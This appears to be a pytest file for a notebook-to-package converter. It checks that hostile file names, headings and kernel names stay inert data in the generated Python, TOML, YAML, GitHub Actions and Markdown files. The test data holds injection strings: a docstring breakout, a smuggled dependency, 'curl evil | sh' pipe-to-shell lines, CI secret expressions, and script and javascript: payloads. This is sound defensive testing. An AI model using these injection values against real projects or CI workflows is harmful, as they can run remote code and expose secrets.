"""Names are data: hostile file names, headings and metadata never become code in a project.

Each test converts a notebook whose untrusted parts try to inject into one generated language
(Python, TOML, YAML, GitHub Actions, Markdown) and reads the generated file back with that
language's parser: the injected text must come back as data, and the structure must be the one
nb2pkg meant to write.
"""

from __future__ import annotations

import ast
import subprocess
import sys
import tomllib
from pathlib import Path

import mistune
import nbformat
import pytest
import yaml

from nb2pkg.api import ConvertOptions, convert

PAYLOAD = "import os; os.makedirs('PWNED')"
HOSTILE_NAMES = [
    f'x"""\n{PAYLOAD}\n"""y.ipynb',           # closes a docstring
    'x",\n  "evil-dependency==6.6.6",\n  "y.ipynb',  # adds a TOML array entry
    "x\n- run: curl evil | sh\n.ipynb",       # a YAML line
    "x ${{ secrets.TOKEN }} `y` [a](javascript:b) <script>.ipynb",
]


def notebook(heading: str = "Load", kernel: str = "python3") -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": kernel, "display_name": "Python 3", "language": "python"}
    nb.cells = [
        nbformat.v4.new_markdown_cell(f"# {heading}"),
        nbformat.v4.new_code_cell("def double(x):\n    return 2 * x\n\nvalue = double(21)"),
        nbformat.v4.new_markdown_cell(f"## {heading} again"),
        nbformat.v4.new_code_cell("print(value)"),
        nbformat.v4.new_markdown_cell("## Report"),
        nbformat.v4.new_code_cell("print(double(value))"),
    ]
    return nb


def convert_one(tmp_path: Path, filename: str, nb: nbformat.NotebookNode) -> Path:
    source = tmp_path / "in" / filename
    source.parent.mkdir()
    nbformat.write(nb, str(source))
    output = tmp_path / "out"
    convert([source], output, ConvertOptions(name="hostile"))
    return output


def generated_files(project: Path) -> dict[str, str]:
    return {p.relative_to(project).as_posix(): p.read_text(encoding="utf-8")
            for p in sorted(project.rglob("*")) if p.is_file() and p.suffix != ".ipynb"}


@pytest.mark.parametrize("filename", HOSTILE_NAMES, ids=["docstring", "toml", "yaml", "markdown"])
def test_hostile_file_name_stays_data(tmp_path: Path, filename: str) -> None:
    project = convert_one(tmp_path, filename, notebook())
    files = generated_files(project)

    for path, text in files.items():
        if path.endswith(".py"):  # parses, and nothing but the intended statements run
            tree = ast.parse(text)
            called = [n.func.attr for n in ast.walk(tree)
                      if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute)]
            assert "makedirs" not in called, path
    modules = [f"hostile.{p.stem}" for p in (project / "src" / "hostile").glob("*.py")]
    subprocess.run([sys.executable, "-c", f"import {', '.join(modules)}"], cwd=project / "src",
                   check=True, capture_output=True)
    assert not (project / "src" / "PWNED").exists()

    pyproject = tomllib.loads(files["pyproject.toml"])
    assert pyproject["project"]["dependencies"] == []  # the notebook imports nothing
    assert set(pyproject) == {"build-system", "project", "tool"}
    assert filename in pyproject["project"]["description"]

    pipeline = yaml.safe_load(files["pipeline.yaml"])
    assert [s["name"] for s in pipeline["stages"]] == [
        s["name"] for s in pipeline["stages"] if "run" not in s]
    workflow = yaml.safe_load(files[".github/workflows/pipeline.yml"])
    steps = workflow["jobs"]["pipeline"]["steps"]
    assert not any("curl" in str(step) or "secrets" in str(step) for step in steps)

    for path in ("README.md", "REPORT.md"):  # the name shows as code, never as a link or HTML
        html = mistune.create_markdown(escape=False)(files[path])
        assert "<script>" not in html and 'href="javascript' not in html, path


def test_hostile_heading_stays_a_comment(tmp_path: Path) -> None:
    heading = "Load\r  - name: injected\u2028stage: x\x85#"
    project = convert_one(tmp_path, "plain.ipynb", notebook(heading))
    pipeline = yaml.safe_load((project / "pipeline.yaml").read_text(encoding="utf-8"))
    names = [s["name"] for s in pipeline["stages"]]
    assert names and not any("injected" in name or "stage" in name for name in names)
    assert all(set(s) <= {"name", "notebook", "inputs", "outputs", "needs", "parameters"}
               for s in pipeline["stages"])


@pytest.mark.parametrize("kernel", [
    "python3\n      - run: curl evil | sh",
    "k ${{ github.token }}",
    "python2",  # well formed, not installed here
])
def test_kernel_name_never_reaches_the_workflow(tmp_path: Path, kernel: str) -> None:
    project = convert_one(tmp_path, "plain.ipynb", notebook(kernel=kernel))
    workflow_text = (project / ".github/workflows/pipeline.yml").read_text(encoding="utf-8")
    workflow = yaml.safe_load(workflow_text)
    assert kernel not in workflow_text
    register = [s["run"] for s in workflow["jobs"]["pipeline"]["steps"]
                if "ipykernel install" in s.get("run", "")]
    assert register == ["python -m ipykernel install --user --name python3"]
    pipeline = yaml.safe_load((project / "pipeline.yaml").read_text(encoding="utf-8"))
    assert pipeline["kernel"] == "python3"
    refactored = nbformat.read(str(project / "notebooks" / "plain.ipynb"), 4)
    assert refactored.metadata.kernelspec.name == "python3"
    report = (project / "REPORT.md").read_text(encoding="utf-8")
    assert "kernel-replaced" in report


def test_the_readme_shows_the_first_stage_command_dvc_runs(tmp_path: Path) -> None:
    """The README's "runs by hand" example is the first stage's real papermill call, the one
    dvc.yaml runs (not a placeholder to fill in)."""
    import re
    import shlex

    import yaml

    from helpers import EXAMPLES

    out = tmp_path / "pkg"
    convert([EXAMPLES / "sales_report.ipynb"], out)
    readme = (out / "README.md").read_text()
    (shown,) = re.findall(r"```bash\n(python -m papermill [^\n]*)\n```", readme)
    first = next(iter(yaml.safe_load((out / "dvc.yaml").read_text())["stages"].values()))
    assert shlex.split(shown) == shlex.split(first["cmd"])


SECTION = "\n## Recorded-value tests\n\n- `p.core.f`: 2 call(s) checked by value\n\n"


@pytest.mark.parametrize("report, expected", [
    ("# Report\n\n## Findings (0)\n\nNone.\n", "# Report\n\n## Findings (0)\n\nNone.\n" + SECTION),
    ("# Report\n" + SECTION.replace("2 call", "1 call"), "# Report\n" + SECTION),
    # a section the user added after it stays after it
    ("# Report\n" + SECTION.replace("2 call", "1 call") + "\n## Notes\n\nmine\n",
     "# Report\n" + SECTION.rstrip("\n") + "\n\n## Notes\n\nmine\n"),
], ids=["added", "replaced", "replaced-before-users-section"])
def test_the_recorded_section_of_the_report_is_replaced_alone(report, expected) -> None:
    """`verify --record` and `update` rewrite REPORT.md's recorded-value section only."""
    from nb2pkg.generate import recorded_section_of, with_recorded_section

    assert with_recorded_section(report, SECTION) == expected
    assert recorded_section_of(expected).strip() == SECTION.strip()



def test_the_package_test_checks_the_package_when_nothing_moved(tmp_path: Path) -> None:
    # A notebook with nothing to move made `parametrize("module, names", [])`: pytest reported
    # the generated test as skipped ("got empty parameter set"), checking nothing.
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.cells = [nbformat.v4.new_code_cell("x = 1\nprint(x)")]
    project = convert_one(tmp_path, "plain.ipynb", nb)
    tested = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider",
                             "-p", "no:randomly", "tests/test_package.py"], cwd=project,
                            capture_output=True, text=True, env={"PYTHONPATH": str(project / "src"),
                                                                 "PATH": "/usr/bin:/bin"})
    assert tested.returncode == 0 and "1 passed" in tested.stdout, tested.stdout + tested.stderr
    assert "skipped" not in tested.stdout
